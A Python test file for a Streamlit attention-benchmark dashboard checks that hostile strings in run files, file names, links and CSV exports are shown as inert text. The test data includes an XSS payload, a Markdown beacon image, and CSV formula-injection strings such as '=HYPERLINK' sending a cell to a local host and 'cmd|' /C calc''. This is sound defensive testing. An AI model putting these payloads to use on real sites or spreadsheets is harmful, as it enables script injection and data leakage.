"""No string from a run file, a file name or a link can run script, fetch a URL, break a page or run as a
spreadsheet formula."""
import csv
import io
import json
import re
import tomllib
from pathlib import Path

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from attn_core import MECHANISMS
from attn_core.engine import untrusted
from attn_core.charts import export, scaling
from attn_core.insight import charts as insight_charts
from attn_core.engine import results
from attn_core.benchmarks.dashboard import EXCEPTION, app_server, browser_page, wait_idle
from attn_core.engine.config import DEFAULT_SWEEP
from tests.apptest_helpers import displayed
from tests.dashboard.test_app import APP, fresh_stage, private_sweep_lock, routed, widget  # noqa: F401 (fixtures apply here)
from tests.dashboard.test_browser import _need_chromium
from tests.charts.test_charts import results_frame

ROOT = Path(__file__).resolve().parents[2]
SCRIPT = "</script><img src=x onerror=alert(1)><script>alert(2)</script>\u2028&amp;"
BEACON = "![img](http://127.0.0.1:9/beacon.png)"
MARKDOWN = ("error", "warning", "info", "caption", "markdown", "success")


def hostile_frame(text: str, in_params: bool = True):
    """A results frame whose labels, params (`in_params`) and skip reasons all carry `text`. A file cannot bring
    text in the params of a mechanism in the catalogue (load_run refuses what its spec does not take)."""
    df = results_frame()
    df["label"] = df["label"] + " " + text
    if in_params:
        df["params"] = [json.dumps({**json.loads(p), "note": text}) for p in df["params"]]
    df.loc[df["status"] == "skipped", "reason"] = text
    return df


def shown_markdown(at: AppTest) -> list[str]:
    """The Markdown body of every element that renders Markdown."""
    return [e.value for kind in MARKDOWN for e in at.get(kind)]


def linked(key: str, value) -> AppTest:
    """The Benchmark page opened by a link holding `key=value`."""
    at = AppTest.from_file(APP, default_timeout=60)
    at.switch_page("pages/benchmark.py")
    at.query_params[key] = value
    return at.run()


def test_literal_escapes_markdown_and_leaves_plain_words():
    assert untrusted.literal(BEACON) == r"\!\[img\]\(http\:\/\/127\.0\.0\.1\:9\/beacon\.png\)"
    assert displayed(untrusted.literal(BEACON)) == BEACON  # shown as typed
    assert untrusted.literal("Softmax 1024") == "Softmax 1024"
    assert untrusted.literal(ValueError("*a*")) == r"\*a\*"


def test_html_export_keeps_hostile_strings_as_escaped_json():
    df = hostile_frame(SCRIPT)
    chart = scaling.figure(df, "time_median_s", title=SCRIPT, subtitle=SCRIPT)
    html = export.chart_html(chart).decode()
    body = html[html.rindex('<div id="vega-chart">'):]
    assert "<img" not in body and "\u2028" not in body and "&amp;" not in body
    assert body.count("<script") == 1 and body.count("</script>") == 1
    assert r"\u003c/script\u003e\u003cimg src=x onerror=alert(1)\u003e" in body


def test_html_export_of_a_hostile_run_runs_no_script_and_fetches_nothing(tmp_path):
    """Opened in chromium, the file must draw its chart, open no dialog and request nothing but itself."""
    _need_chromium()
    df = hostile_frame(SCRIPT + BEACON)
    path = tmp_path / "hostile.html"
    path.write_bytes(export.chart_html(scaling.figure(df, "time_median_s", title=SCRIPT, subtitle=BEACON)))
    dialogs, requests = [], []
    with browser_page() as page:
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.on("request", lambda r: requests.append(r.url))
        page.goto(path.as_uri())
        page.wait_for_load_state("networkidle")  # an onerror handler or a beacon has fired by now
        assert dialogs == []
        assert [url for url in requests if url != path.as_uri()] == []
        text = page.locator(".vega-embed svg.marks").text_content()  # waits for the chart
    assert "</script><img src=x onerror=alert(1)>" in text  # the title, drawn as the characters it holds


def test_a_hostile_file_name_is_shown_as_text_on_the_benchmark_page():
    at = AppTest.from_file(APP, default_timeout=60)
    at.switch_page("pages/benchmark.py").run()
    at.file_uploader(key="bench_upload").upload(BEACON + ".json", b'{"hello": 1}', "application/json")
    at.run()
    at.button(key="bench_show").click().run()
    assert not at.exception
    assert any(untrusted.literal(BEACON) in e.value for e in at.error)
    assert not any("![" in text for text in shown_markdown(at))


def test_a_hostile_run_replays_with_its_labels_and_reasons_as_text():
    saved = results.to_json_bytes(results.Run(hostile_frame(BEACON, in_params=False)))
    at = AppTest.from_file(APP, default_timeout=60)
    at.switch_page("pages/benchmark.py").run()
    at.file_uploader(key="bench_upload").upload("run.json", saved, "application/json")
    at.run()
    at.button(key="bench_show").click().run()
    assert not at.exception
    captions = [c.value for c in at.caption]
    assert any("Not drawn" in c and untrusted.literal(BEACON) in c for c in captions)
    assert not any("![" in text for text in shown_markdown(at))


def test_hostile_files_are_shown_as_text_on_the_compare_page():
    """A refused file (its status quoted) and a run with no measured point (its name quoted)."""
    not_a_run = json.loads(results.to_json_bytes(results.Run(results_frame())))
    not_a_run["rows"] = [dict(r, status=BEACON) for r in not_a_run["rows"]]
    unmeasured = results.to_json_bytes(results.Run(results_frame().assign(status="skipped")))
    at = AppTest.from_file(APP, default_timeout=60)
    at.switch_page("pages/compare.py").run()
    at.file_uploader(key="cmp_upload").upload("bad.json", json.dumps(not_a_run).encode(), "application/json")
    at.file_uploader(key="cmp_upload").upload(BEACON + ".json", unmeasured, "application/json")
    at.run()
    assert not at.exception
    assert any(untrusted.literal(BEACON) in e.value for e in at.error)
    assert any(untrusted.literal(BEACON) in w.value for w in at.warning)
    assert not any("![" in text for text in shown_markdown(at))


@pytest.mark.parametrize("key, value", [
    ("bench_heads", "1e309"), ("bench_d_model", "1e400"), ("bench_batch", "inf"), ("bench_heads", "nan"),
    ("bench_heads", "-3"), ("bench_steps", "many"), ("bench_heads", "257"), ("bench_steps", "2.5"),
    ("bench_speed", "1e309"), ("bench_d_model", BEACON), ("bench_p_sliding_window_window", "1e309"),
    ("bench_p_sliding_window_window", str(MECHANISMS["sliding_window"].params[0].high + 1))])
def test_a_bad_number_in_a_link_is_ignored_with_a_sentence(key, value):
    at = linked(key, value)
    assert not at.exception, [e.value for e in at.exception]
    notes = [w.value for w in at.warning if f"`{key}` was ignored" in w.value]
    assert len(notes) == 1 and "so its default is used" in notes[0]
    assert untrusted.literal(value) in notes[0] and "![" not in notes[0]
    fresh = AppTest.from_file(APP, default_timeout=60)
    fresh.switch_page("pages/benchmark.py").run()
    assert widget(at, key).value == widget(fresh, key).value
    assert key not in at.query_params


def test_back_to_a_crafted_link_is_refused_with_a_sentence_in_the_browser(tmp_path):
    """Back restores `?bench_heads=1e309` into a session whose widget is bound; Streamlit seeds the widget itself and
    raised OverflowError there. The page clears the value first, says so, and the widget keeps its default."""
    _need_chromium()
    with app_server({"TMPDIR": str(tmp_path)}) as server, browser_page() as page:
        page.goto(f"{server.url}/benchmark?bench_heads=1e309")
        page.get_by_text("was ignored").wait_for()
        page.wait_for_url(f"{server.url}/benchmark")  # dropped from the URL
        heads = page.locator(".st-key-bench_heads input")
        heads.fill("4")
        heads.press("Enter")
        page.wait_for_url("**/benchmark?bench_heads=4")
        wait_idle(page)
        page.go_back()  # to the entry the crafted link made
        page.wait_for_url(f"{server.url}/benchmark")  # and the page has cleared it again
        page.get_by_text("was ignored").wait_for()
        wait_idle(page)
        assert page.locator(EXCEPTION).count() == 0
        assert heads.input_value() == str(DEFAULT_SWEEP.problem.heads)


def test_a_good_number_in_a_link_still_sets_its_widget():
    at = linked("bench_heads", "4")
    assert not at.exception and widget(at, "bench_heads").value == 4
    assert not any("was ignored" in w.value for w in at.warning)


@pytest.mark.parametrize("key, value, kept", [
    ("bench_n", ["100", "4096"], None), ("bench_n", ["64", "1,000,000"], None), ("bench_exact", ["Bogus"], None),
    ("bench_exact", ["Softmax (materialized)", BEACON], ["softmax"]), ("bench_device", "tpu", None),
    ("bench_dtype", "float8", None), ("bench_causal", "maybe", None), ("bench_mode", "sideways", None),
    ("bench_approx", ["Performer (FAVOR+)", "performer"], ["performer"])])
def test_a_choice_a_widget_does_not_offer_is_ignored_with_a_sentence(key, value, kept):
    """Streamlit drops such values without a word; the page names them (and keeps the good ones of a multiselect)."""
    at = linked(key, value)
    assert not at.exception, [e.value for e in at.exception]
    notes = [w.value for w in at.warning if f"`{key}` was ignored" in w.value]
    assert len(notes) == 1 and "takes one of" in notes[0] and "![" not in notes[0]
    assert ("and the others are used" if kept else "so its default is used") in notes[0]
    fresh = AppTest.from_file(APP, default_timeout=60)
    fresh.switch_page("pages/benchmark.py").run()
    assert widget(at, key).value == (kept if kept else widget(fresh, key).value)
    at.run()  # the sentence is said once, not on every rerun
    assert not [w.value for w in at.warning if "was ignored" in w.value]


@pytest.mark.parametrize("key, value, seen", [("bench_n", ["1024", "4096"], (1024, 4096)),
                                              ("bench_causal", "TRUE", True)])
def test_a_link_written_plainly_is_taken_without_a_word(key, value, seen):
    """n as 1024 (the slider shows 1,024) and TRUE for true set their widgets."""
    at = linked(key, value)
    assert not at.exception and widget(at, key).value == seen
    assert not any("was ignored" in w.value for w in at.warning)


def test_link_choice_keeps_the_offered_values_and_names_the_rest():
    assert untrusted.link_choice("k", ["a", "b"], ["a", "b", "c"]) == (["a", "b"], "")
    kept, note = untrusted.link_choice("k", ["a", "*x*"], ["a", "b"])
    assert kept == ["a"] and r"value \*x\* for `k`" in note and "one of a · b, and the others are used" in note
    assert untrusted.link_choice("k", ["a", "z"], ["a", "b"], several=False)[0] == []


def test_link_number_says_the_range_and_accepts_values_inside_it():
    assert untrusted.link_number("bench_heads", "8", 1, 256) == ""
    assert untrusted.link_number("bench_heads", "1e3", 1, 16384) == ""
    assert "a whole number from 1 to 16,384" in untrusted.link_number("bench_d_model", "0", 1, 16384)
    assert "a number from 0.5 to 20" in untrusted.link_number("bench_speed", "-inf", 0.5, 20.0, whole=False)
    assert untrusted.link_number("bench_heads", ["8", "nan"], 1, 256)
    assert "9" * untrusted.SHOWN_CHARS + "…" in untrusted.link_number("bench_heads", "9" * 100, 1, 256)


def test_server_listens_locally_and_its_upload_cap_is_the_run_file_limit():
    server = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())["server"]
    assert server["address"] == "127.0.0.1"
    assert server["maxUploadSize"] * 2**20 == results.MAX_FILE_BYTES


def test_link_values_keeps_what_each_widget_takes_and_names_the_rest_in_key_order():
    kept, notes = untrusted.link_values(
        {"steps": ["3"], "heads": ["1e309"], "n": ["1024", "7"], "mech": ["Softmax", "<b>x</b>"], "other": ["?"]},
        {"steps": (1, 16, True), "heads": (1, 256, True)},
        {"n": (["1,024", "2,048"], False), "mech": (["Softmax", "Linear"], True)},
        lambda key, value: f"{int(value):,}" if key == "n" and value.isdigit() else value)
    assert kept == {"steps": ["3"], "heads": [], "n": [], "mech": ["Softmax"]}  # "other" is no widget's: untouched
    assert [note.split("`")[1] for note in notes] == ["heads", "mech", "n"]
    assert "<b>" not in notes[1] and "7" in notes[2]


def test_every_free_text_input_of_the_pages_has_a_length_limit():
    """A 100,000-character chart title or sentence would take minutes to draw and export: each st.text_input and
    st.text_area call in pages/ passes max_chars (Streamlit then keeps at most that many characters)."""
    calls = []
    for path in sorted((ROOT / "pages").glob("*.py")):
        text = path.read_text()
        for found in re.finditer(r"\.text_(?:input|area)\(", text):
            depth, end = 0, found.end() - 1  # the call's text, to its closing parenthesis
            for end in range(found.end() - 1, len(text)):
                depth += {"(": 1, ")": -1}.get(text[end], 0)
                if depth == 0:
                    break
            calls.append((path.name, text[found.start():end + 1]))
    assert len(calls) >= 6, calls  # the Benchmark titles and subtitle, Learn's two sentences, Patterns, Accuracy
    assert [name for name, call in calls if not re.search(r"\bmax_chars=(?!None\b)\w", call)] == []


# ---- CSV cells never run as spreadsheet formulas ----

FORMULAS = ['=HYPERLINK("http://127.0.0.1:9/x?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "''+1", "plain, =2+2", "-1.5"]
JSON_NUMBER = re.compile(r"-?[0-9.eE+-]+[\]}]*")  # a JSON number split off at a comma, e.g. ' -1.5]'


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet would evaluate (OWASP, "CSV Injection"): a cell starting with =, +, -, @, tab or CR, even
    after spaces, unless it is a number."""
    text = cell.lstrip(" ")
    return text[:1] in ("=", "+", "-", "@", "\t", "\r") and not JSON_NUMBER.fullmatch(text)


def spreadsheet_cells(data: bytes) -> list[str]:
    """Every cell a spreadsheet makes of a CSV, comment lines included (split at their commas too)."""
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row]


def hostile_run(text: str) -> results.Run:
    df = results_frame()
    df["mechanism"] = "my_own"  # outside the catalogue, its params keep any text
    df["label"] = text
    df["device"] = text
    df["params"] = [json.dumps({**json.loads(p), "note": text}) for p in df["params"]]
    df["reason"] = text
    return results.Run(df, {"device_name": text, "list": [-1.5, text, 2.0], "-": -3}, {"note": text, "ns": [64]})


@pytest.mark.parametrize("text", FORMULAS)
def test_a_run_csv_runs_no_formula_and_loads_back_the_same(text):
    run = hostile_run(text)
    data = results.to_csv_bytes(run)
    assert not [cell for cell in spreadsheet_cells(data) if runs_as_formula(cell)]
    back = results.load_run(data)
    assert back.env == run.env and back.config == run.config
    for column in ("label", "device", "params", "reason"):
        assert back.frame[column].tolist() == run.frame[column].tolist()
    assert back.frame.equals(results.load_run(results.to_json_bytes(run)).frame)


def test_csv_cell_marks_text_only_and_csv_text_takes_off_only_its_mark():
    assert [untrusted.csv_cell(v) for v in ("=1", "'=1", "'x", "-1.5", -1.5, "")] == \
        ["'=1", "''=1", "'x", "'-1.5", -1.5, ""]
    assert [untrusted.csv_text(c) for c in ("'=1", "''=1", "'x", "'-1.5", "x'=")] == ["=1", "'=1", "'x", "-1.5", "x'="]


def test_chart_downloads_run_no_formula_and_keep_numbers_numbers():
    frame = pd.DataFrame({"mechanism": ["softmax"] * 2, "label": FORMULAS[:2], "n": [4, 8], "value": [-1.5, 2.0],
                          "source": ["a · b"] * 2, "run": ["=cmd|' /C calc'!A0.json", "b.csv"], "machine": ["@x", "y"]})
    chart = insight_charts.relative_chart(frame)
    data = dict((fmt, make) for fmt, make, _, _ in insight_charts.downloads(chart, frame, "speed"))["CSV"]()
    assert not [cell for cell in spreadsheet_cells(data) if runs_as_formula(cell)]
    back = pd.read_csv(io.BytesIO(data))
    assert back["value"].tolist() == [-1.5, 2.0] and back["value"].dtype == float  # numbers stay numbers
    assert back["run"].tolist() == ["'=cmd|' /C calc'!A0.json", "b.csv"]
